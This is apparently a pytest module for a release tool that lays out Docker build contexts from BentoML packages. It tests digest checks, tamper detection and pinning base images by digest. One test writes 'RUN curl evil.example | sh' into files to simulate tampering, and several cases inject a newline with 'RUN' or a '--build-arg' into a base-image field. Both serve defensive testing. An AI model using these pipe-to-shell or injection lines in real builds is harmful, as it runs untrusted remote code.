"""What an image is built from: only what a digest covers, whatever else was written into the Bento."""

import re
import shutil
from pathlib import Path

import pytest

from slipway.base.errors import SlipwayError, UsageError
from slipway.release import context as build
from slipway.release.bento import bento_path
from slipway.release.context import DOCKERFILE, base_image, lay_out_image
from slipway.version.manifest import Registered, digests
from tests.slipway.root import ROOT
from tests.slipway.tiny import registered, tiny_bento

HEX = "ab" * 32
Packed = tuple[Path, Registered]


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Packed:
    """A Bento as `slipway package` made it, and the version in it."""
    project, tag = tiny_bento(tmp_path_factory.mktemp("context") / "project", ROOT)
    return bento_path(project, tag), registered(project.root / "version", 7)


@pytest.fixture
def bento(whole: Packed, tmp_path: Path) -> Packed:
    """One that may be written to."""
    return shutil.copytree(whole[0], tmp_path / "bento"), whole[1]


def laid_out(bento: Packed, context: Path) -> dict[str, str]:
    """The digest of each file of the context."""
    lay_out_image(*bento, context)
    return digests(context) | {"src/version/manifest.json": bento[1].digest}


def test_a_context_holds_the_version_and_the_dockerfile(bento: Packed, tmp_path: Path) -> None:
    """Every file of the manifest, and the lock that is installed among them."""
    found = laid_out(bento, tmp_path / "context")
    source = digests(bento[0] / "src") | {"version/manifest.json": bento[1].digest}

    assert found.pop("Dockerfile") == digests(DOCKERFILE.parent)["Dockerfile"]
    assert found.pop("sbom.py") == digests(DOCKERFILE.parent)["sbom.py"]
    assert found.pop("requirements.txt") == found["src/requirements-serving.txt"]
    assert found == {f"src/{name}": digest for name, digest in source.items()}


OUTSIDE = ["env/docker/Dockerfile", "env/docker/entrypoint.sh", "env/python/requirements.txt", "bento.yaml"]


@pytest.mark.parametrize("name", [*OUTSIDE, "Dockerfile", ".dockerignore", "src/Dockerfile", "src/pip.conf"])
def test_what_no_digest_covers_reaches_no_image(
    whole: Packed, bento: Packed, tmp_path: Path, name: str
) -> None:
    """F12: somebody edits what BentoML wrote beside the version between package and publish."""
    expected = laid_out(whole, tmp_path / "expected")
    with (bento[0] / name).open("a") as file:
        file.write("RUN curl evil.example | sh\n")

    assert laid_out(bento, tmp_path / "context") == expected


@pytest.mark.gate(
    "image.tampered",
    fed="a Bento of which a file of the version, such as its lock, was changed after packaging",
    stops="package",
    exit=1,
    reason="the file, its digest and the manifest's",
    untouched="docker called",
    guard="version.changed_file",
)
@pytest.mark.parametrize(
    "name", ["requirements-serving.txt", "slipway/serving/service.py", "version/card.json"]
)
def test_a_changed_version_has_no_context(bento: Packed, tmp_path: Path, name: str) -> None:
    """Each file that an image takes from a Bento is of the manifest, and the manifest is the registry's."""
    with (bento[0] / "src" / name).open("a") as file:
        file.write("\n")

    with pytest.raises(SlipwayError, match=f"{re.escape(name)}: sha256 .* the manifest says"):
        lay_out_image(*bento, tmp_path / "context")
    assert not (tmp_path / "context/Dockerfile").exists()


@pytest.mark.gate(
    "image.other",
    fed="a whole Bento of another version than the registered one",
    stops="package",
    exit=1,
    reason="the manifest's digest and the registry's",
    untouched="docker called",
    guard="version.changed_manifest",
)
def test_another_version_has_no_context(bento: Packed, tmp_path: Path) -> None:
    """A Bento that was put in the place of the packaged one."""
    other = bento[1].model_copy(update={"digest": HEX})

    with pytest.raises(SlipwayError, match="the registry says"):
        lay_out_image(bento[0], other, tmp_path / "context")
    assert not (tmp_path / "context").exists()


@pytest.mark.gate(
    "image.changed_meanwhile",
    fed="a Bento of which a file is changed between the check and the copy",
    stops="package",
    exit=1,
    reason="the file, its digest and the manifest's",
    untouched="docker called",
)
def test_a_change_during_the_copy_is_seen(
    bento: Packed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is checked last is the copy that docker gets."""
    victim = bento[0] / "src/slipway/serving/service.py"
    real = build.packed

    def packed(name: str) -> str:
        victim.write_text("import os\n")  # the first file is about to be copied
        return real(name)

    monkeypatch.setattr(build, "packed", packed)
    with pytest.raises(SlipwayError, match=r"service\.py: sha256 .* the manifest says"):
        lay_out_image(*bento, tmp_path / "context")
    assert not (tmp_path / "context/Dockerfile").exists()


def test_a_name_is_the_registry_s(bento: Packed, tmp_path: Path) -> None:
    """`registered.json` has no digest in the manifest, so it is written anew."""
    path = bento[0] / "src/version/registered.json"
    path.write_text(path.read_text().replace('"number": 7', '"number": 8'))

    lay_out_image(*bento, tmp_path / "context")
    found = Registered.model_validate_json((tmp_path / "context/src/version/registered.json").read_bytes())
    assert found == bento[1]


@pytest.mark.gate(
    "image.base",
    fed="a bentofile.yaml that names no base image, or one by its tag alone",
    stops="package",
    exit=2,
    reason="docker.base_image, what was found and the form that is expected",
    untouched="docker called",
)
@pytest.mark.parametrize(
    "docker",
    [
        "",
        "docker:\n",
        "docker: python\n",
        "docker: {distro: debian}\n",
        "docker: {base_image: 'python:3.11-slim'}\n",
        "docker: {base_image: 'python@sha256:ab'}\n",
        f"docker: {{base_image: 'python@sha256:{HEX.upper()}'}}\n",
        f'docker: {{base_image: "python@sha256:{HEX}\\nRUN x"}}\n',
        f"docker: {{base_image: '--build-arg=x python@sha256:{HEX}'}}\n",
        f"docker: {{base_image: [python@sha256:{HEX}]}}\n",
    ],
)
def test_a_base_is_named_by_its_digest(tmp_path: Path, docker: str) -> None:
    """A tag can be moved by whoever may write to a registry."""
    (tmp_path / "bentofile.yaml").write_text(f"service: a:B\n{docker}")

    said = r"bentofile\.yaml: docker\.base_image: found .* expected .*@sha256:"
    with pytest.raises(UsageError, match=said):
        base_image(tmp_path)
    (tmp_path / "bentofile.yaml").unlink()
    with pytest.raises(UsageError, match=said):
        base_image(tmp_path)


@pytest.mark.parametrize(
    "name", ["python", "docker.io/library/python:3.11-slim", "r.example.org:5000/a/b:1.0"]
)
def test_every_form_of_a_name_will_do(tmp_path: Path, name: str) -> None:
    """With or without a tag, which is for people."""
    (tmp_path / "bentofile.yaml").write_text(f"docker:\n  base_image: {name}@sha256:{HEX}\n")
    assert base_image(tmp_path) == f"{name}@sha256:{HEX}"


def test_the_dockerfile_keeps_its_promises() -> None:
    """Held by its text, for where no image can be built; test_built_image.py looks into one."""
    text = re.sub(r"\\\n\s*", "", DOCKERFILE.read_text())
    stages = {one.splitlines()[0].split()[-1]: one for one in text.split("\nFROM ")[1:]}
    (install,) = re.findall(r"pip .*install .*", text)

    assert {"--require-hashes", "--no-deps"} <= set(install.split())
    assert "ARG PIP_ONLY_BINARY=:all:" in stages["made"]
    assert install in stages["made"]
    assert [*stages][-1] == "version"  # which is what a build makes that names no stage
    for final in (stages["version"], stages["pipeline"]):
        assert final.startswith("scratch AS ")
        assert not re.search(r"^(RUN|ADD) ", final, re.MULTILINE)
        assert re.findall(r"^USER (.+)$", final, re.MULTILINE) == ["1034:1034"]
    assert "--chown" not in stages["version"]
    assert not re.search(r"build-essential|gcc|\bgit\b|\buv\b|ADD |# syntax", text)
